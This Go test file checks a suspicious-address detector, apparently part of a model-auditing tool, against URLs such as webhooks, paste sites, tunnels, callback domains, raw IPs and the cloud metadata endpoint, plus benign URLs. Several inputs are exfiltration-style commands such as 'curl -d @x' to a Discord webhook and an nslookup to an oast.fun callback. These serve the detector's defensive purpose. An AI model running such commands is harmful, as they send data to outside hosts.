package address_test

import (
	"strings"
	"testing"

	"github.com/modelaudit/modelaudit/internal/address"
)

func TestFind(t *testing.T) {
	for _, c := range []struct{ name, text, want string }{
		{name: "webhook", text: "curl -d @x https://discord.com/api/webhooks/1/abc", want: "webhook"},
		{name: "bot", text: `requests.post("https://api.telegram.org/bot1:A/sendMessage")`, want: "webhook"},
		{name: "paste", text: "wget pastebin.com/raw/abc", want: "paste"},
		{name: "tunnel", text: "https://0a1b.ngrok-free.app/x", want: "tunnel"},
		{name: "tunnel behind more than a name may have", text: "https://" + strings.Repeat("a.", 10_000) + "ngrok-free.app/x", want: "tunnel"},
		{name: "callback", text: "nslookup x.c0ffee.oast.fun", want: "callback"},
		{name: "short link", text: "http://bit.ly/abc", want: "short"},
		{name: "onion", text: "http://" + strings.Repeat("abcdefg2", 7) + ".onion/", want: "onion"},
		{name: "number", text: "http://192.0.2.7:8080/x", want: "number"},
		{name: "number of version 6", text: "http://[2001:db8::1]/x", want: "number"},
		{name: "one number", text: "http://3221225991/x", want: "number"},
		{name: "the smallest number", text: "http://16777216/x", want: "number"},
		{name: "one number, hexadecimal", text: "http://0xC0000207/x", want: "number"},
		{name: "metadata service", text: "http://169.254.169.254/latest/meta-data/", want: "metadata service"},
		{name: "password", text: "ftp://user:secret1@files.company.net/x", want: "password"},
		{name: "two", text: "a bit.ly/x b transfer.sh/y c bit.ly/x", want: "short paste"},

		{name: "project", text: "https://huggingface.co/docs and https://github.com/a/b#readme, http://www.apache.org/licenses/LICENSE-2.0"},
		{name: "host of a webhook", text: "see https://discord.com/invite/abc and https://api.telegram.org"},
		{name: "local", text: "http://localhost:8080 http://127.0.0.1/ http://0.0.0.0:80 http://10.1.2.3/ http://192.168.0.1"},
		{name: "local, to routers", text: "http://169.254.1.1/ http://224.0.0.251/ http://[fe80::1]/ http://[ff02::fb]/"},
		{name: "numbers that are no address", text: "http://16777215/x http://4294967296/x http://1x/"},
		{name: "password for a machine", text: "http://user:secret1@database/x http://user@files.company.net/x"},
		{name: "version", text: "1.2.3.4 torch==2.1.0.1"},
		{name: "a name that ends alike", text: "https://notbit.ly/x https://myngrok.io.example.org"},
		{name: "placeholder", text: "https://user:${PASSWORD}@host.net https://user:@host.net"},
		{name: "mail", text: "mailto:someone@example.org someone@bitly.com"},
		{name: "words", text: "a.b.c self.model.layers 0.5 1e-5"},
	} {
		var got []string
		for _, a := range address.Find(c.text) {
			got = append(got, a.Kind)
			if c.text[a.Offset:a.Offset+len(a.Text)] != a.Text || a.Why == "" {
				t.Errorf("%s: %+v", c.name, a)
			}
		}
		if strings.Join(got, " ") != c.want {
			t.Errorf("%s: got %q, want %q", c.name, got, c.want)
		}
	}
}
